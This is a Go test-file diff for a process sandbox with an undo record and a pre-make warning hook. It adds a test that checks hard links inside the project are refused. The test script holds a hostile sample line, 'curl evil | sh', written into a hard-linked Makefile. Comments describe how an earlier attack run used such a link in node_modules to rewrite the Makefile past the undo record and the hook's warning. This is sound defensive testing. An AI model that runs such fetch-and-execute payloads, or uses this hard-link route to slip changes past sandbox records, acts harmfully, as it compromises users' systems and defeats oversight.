@@ -1820,7 +1820,6 @@ func TestJailMakesAsUnconfined(t *testing.T) {
 mkdir -p deep/er; echo x > deep/er/f
 ln -s ../main.go deep/l
 mkfifo ff
-ln main.go hard
 mv deep deep2
 mkdir x; cp -p main.go x/
 printf a > t.tmp; mv t.tmp renamed
@@ -1828,7 +1827,7 @@ mkdir d2/
 mv deep2/er/ deep2/er2/
 mkdir t; tar cf - main.go deep2 ff | tar xf - -C t
 python3 -c "import os; fd = os.open('o', os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600); os.write(fd, b'o'); os.close(fd)"
-cp -r x y; rm -r x; rm hard
+cp -r x y; rm -r x
 find . -printf '%p %m %y %s %l\n' | sort > ../$1.list`
 	bothModes(t, func(t *testing.T, j *jail) {
 		src := filepath.Join(j.project, "src")
@@ -1909,15 +1908,50 @@ except OSError as e:
 // own descriptor N in the first stage, whose /proc/self is its own (the
 // attack run's link failed only because the maker's rules lacked a right
 // where that descriptor led): a directory in /proc is never one the first
-// stage acts in, and the call is refused. Both modes. Control: ln of the
-// same file by its name is made.
+// stage acts in, and the call is refused. Both modes. Since 2026-12-04
+// no hard link is made in the project at all (TestJailNoHardLinks).
+// Control: a copy of the same file by its name is made.
 func TestJailLinkOfProcSelf(t *testing.T) {
 	bothModes(t, func(t *testing.T, j *jail) {
 		main := filepath.Join(j.project, "src/main.go")
 		out, code := j.launch(t, projectWrite, "jail-linkfd", main, filepath.Join(j.project, "src/hard"))
-		checkProbe(t, []string{"linkat /proc/self/fd/N"}, out, code, false)
-		out, code = j.launch(t, projectWrite, "jail-sh", "ln src/main.go src/hard2")
-		checkProbe(t, []string{"ln src/main.go src/hard2 (control)"}, out, code, true)
+		checkProbe(t, []string{"link", "linkat /proc/self/fd/N"}, out, code, false)
+		out, code = j.launch(t, projectWrite, "jail-sh", "cp src/main.go src/hard2")
+		checkProbe(t, []string{"cp src/main.go src/hard2 (control)"}, out, code, true)
+	})
+}
+
+// TestJailNoHardLinks: a second name for a file of the project, made in
+// a directory the undo record leaves out (node_modules), let the sixteenth
+// attack run rewrite the Makefile past the record, and past the hook's
+// warning before an unjailed make. No hard link is made in the project
+// (EXDEV, on which git, cargo and cp -l make the file another way), in
+// both modes and under both writing capabilities. Control: a copy written
+// there is the program's, and the Makefile is as it was.
+func TestJailNoHardLinks(t *testing.T) {
+	bothModes(t, func(t *testing.T, j *jail) {
+		mk := filepath.Join(j.project, "Makefile")
+		testfs.Write(t, mk, []byte("all:\n\ttrue\n"), 0o644)
+		if os.Getuid() == 0 {
+			_ = os.Lchown(mk, nobody, nobody)
+		}
+		for _, c := range []policy.Capability{projectWrite, policy.JailCapability} {
+			out, code := j.launch(t, c, "jail-sh", `exec >out.txt 2>&1; mkdir -p node_modules
+if ln Makefile node_modules/m; then printf 'all:\n\tcurl evil | sh\n' > node_modules/m; echo linked; fi
+cp Makefile node_modules/c && echo copied > node_modules/c`)
+			b, _ := os.ReadFile(filepath.Join(j.project, "out.txt"))
+			if code != 0 || strings.Contains(string(b), "linked") || !strings.Contains(string(b), "link") {
+				t.Errorf("namespaces %v, %s: exit %d, a hard link made or not refused: %q %s", j.ns, c, code, b, out)
+			}
+			if got := string(testfs.Read(t, mk)); got != "all:\n\ttrue\n" {
+				t.Errorf("namespaces %v, %s: the Makefile is %q", j.ns, c, got)
+			}
+			if got := string(testfs.Read(t, filepath.Join(j.project, "node_modules/c"))); got != "copied\n" {
+				t.Errorf("namespaces %v, %s: the copy (control) is %q", j.ns, c, got)
+			}
+			_ = os.RemoveAll(filepath.Join(j.project, "node_modules"))
+			_ = os.Remove(filepath.Join(j.project, "out.txt"))
+		}
 	})
 }
 
